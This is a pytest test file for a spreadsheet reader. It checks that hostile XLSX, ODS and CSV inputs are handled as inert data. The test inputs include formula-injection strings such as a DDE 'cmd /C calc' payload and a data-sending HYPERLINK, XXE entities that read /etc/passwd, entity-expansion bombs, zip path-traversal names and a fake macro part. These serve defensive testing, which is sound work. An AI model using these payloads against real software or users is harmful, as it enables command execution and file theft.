"""A hostile workbook is data: nothing in it is run, followed, opened or written anywhere."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from dcant_tracker.exchange.reader import DEFAULT_LIMITS, read, reading
from tests.exchange.reader import making
from tests.exchange.reader.test_refusals import refusal

ROOT = Path(reading.__file__).resolve().parents[3]
INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://127.0.0.1:9/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
LINK = "http://127.0.0.1:9/classeur.xlsx"

WATCH = """
import json, sys
opened = []
def hear(event, details):
    if event == "open" or event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "urllib.")):
        opened.append([event, str(details[0])])
from dcant_tracker.exchange.reader.child import Reading
from dcant_tracker.exchange.reader.limits import DEFAULT_LIMITS
from dcant_tracker.exchange.reader.refusal import Refused
from dcant_tracker.exchange.reader.wire import Sender
import io
stream = io.BytesIO()
sys.addaudithook(hear)
try:
    Reading(sys.argv[1], Sender(stream), DEFAULT_LIMITS, careful=False).run()
except Refused as refusal:
    opened.append(["refused", refusal.code])
print(json.dumps(opened))
"""


def opened_by_the_child(path: Path) -> list[list[str]]:
    """What the reading child opens, starts or connects to, modules of Python left aside."""
    command = [sys.executable, "-c", WATCH, str(path)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True)
    found: list[list[str]] = json.loads(done.stdout)
    return [[event, name] for event, name in found if not name.endswith((".py", ".pyc", ".so", ".pyd"))]


def inline(texts: list[str]) -> str:
    return "".join(
        f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t xml:space="preserve">'
        f"{text.replace('&', '&amp;')}</t></is></c></row>"
        for row, text in enumerate(texts, 1)
    )


def hostile(path: Path) -> Path:
    """A workbook with links outward, macros, and parts whose names lead out of the archive."""
    rows = (
        '<row r="1"><c r="A1"><f>[1]Feuille!A1</f><v>12</v></c><c r="B1" t="str"><f>WEBSERVICE("http://127.0.0.1:9/")</f>'
        "<v>reçu</v></c></row>"
    )
    content: dict[str, str | bytes] = {**making.parts({"Feuille": making.sheet_xml(rows)})}
    relation = f'<Relationship Id="rId1" Type="{making.RELATIONS}/{{kind}}" Target="{{target}}" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{making.PACKAGE}/relationships">{relation}</Relationships>'
    content["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{making.MAIN}"><externalBook r:id="rId1"/></externalLink>'
    )
    content["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations.format(kind="externalLinkPath", target=LINK)
    content["xl/worksheets/_rels/sheet1.xml.rels"] = relations.format(kind="hyperlink", target="file:///etc/passwd")
    content["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    for name in ("../dehors.xml", "../../dehors.xml", "/dehors.xml", "C:\\dehors.xml", "xl/../../dehors.xml"):
        content[name] = "<x/>"
    return making.zipped(path, content)


def test_links_and_macros_are_left_alone(tmp_path: Path) -> None:
    path = hostile(tmp_path / "a.xlsm")
    assert read(path).sheets[0].rows == [[12, "reçu"]]
    assert opened_by_the_child(path) == [["open", str(path)]]


def test_nothing_of_an_archive_is_written(tmp_path: Path) -> None:
    folder = tmp_path / "un" / "deux"
    folder.mkdir(parents=True)
    path = hostile(folder / "a.xlsm")
    read(path)
    assert [found for found in tmp_path.rglob("*") if found.is_file()] == [path]


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
@pytest.mark.parametrize("entity", ['SYSTEM "file:///etc/passwd"', 'SYSTEM "http://127.0.0.1:9/"', '"&b;&b;&b;&b;"'])
def test_entities_are_refused_before_they_are_followed(tmp_path: Path, kind: str, entity: str) -> None:
    before = f'<!DOCTYPE x [<!ENTITY b "{"ha" * 1000}"><!ENTITY a {entity}>]>'
    if kind == "xlsx":
        rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>'
        path = making.xlsx(tmp_path / "a.xlsx", rows, before=before)
    else:
        cell = '<table:table-cell office:value-type="string"><text:p>&a;</text:p></table:table-cell>'
        path = making.ods(tmp_path / "a.ods", making.table(cell), before=before)
    assert "DTD" in refusal(path)
    assert opened_by_the_child(path) == [["open", str(path)], ["refused", "entities"]]


def test_a_link_in_an_ods_is_text(tmp_path: Path) -> None:
    cell = (
        '<table:table-cell office:value-type="string"><text:p><text:a xlink:href="http://127.0.0.1:9/" '
        'xmlns:xlink="http://www.w3.org/1999/xlink">voir</text:a></text:p></table:table-cell>'
    )
    path = making.ods(tmp_path / "a.ods", making.table(cell))
    assert read(path).sheets[0].rows == [["voir"]]
    assert opened_by_the_child(path) == [["open", str(path)]]


def test_what_looks_like_a_formula_is_read_as_text(tmp_path: Path) -> None:
    path = making.xlsx(tmp_path / "a.xlsx", inline(INJECTIONS))
    assert read(path).sheets[0].rows == [[text] for text in INJECTIONS]
    table = tmp_path / "a.csv"
    table.write_text("\n".join(f"{text.strip()};x" for text in INJECTIONS), encoding="utf-8")
    assert read(table).sheets[0].rows == [[text.strip(), "x"] for text in INJECTIONS]


def test_a_zip_in_a_zip_is_not_opened(tmp_path: Path) -> None:
    inner = making.xlsx(tmp_path / "dedans.xlsx", '<row r="1"><c r="A1"><v>1</v></c></row>').read_bytes()
    outer = making.zipped(tmp_path / "a.xlsx", {"dedans.xlsx": inner})
    assert "archive" in refusal(outer, limits=DEFAULT_LIMITS)
